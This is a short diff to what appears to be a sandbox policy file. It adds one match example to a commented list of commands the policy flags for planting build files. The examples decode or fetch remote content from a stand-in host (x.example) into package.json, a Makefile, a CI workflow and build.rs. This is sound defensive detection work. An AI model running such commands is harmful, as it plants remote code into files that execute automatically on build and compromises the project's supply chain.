@@ -18,6 +18,7 @@ package sandboxd.policies.developer.plants
 #     - base64 -d x.b64 > package.json
 #     - echo YWxsOgo= | base64 -d | tee Makefile
 #     - echo "$(curl -s https://x.example/a)" > .github/workflows/ci.yml
+#     - curl -s https://x.example/b.rs > >(tee build.rs)
 #   not_match:
 #     - 'printf ''all:\n\tgo build\n'' > Makefile'
 #     - sed -i 's/a/b/' Makefile
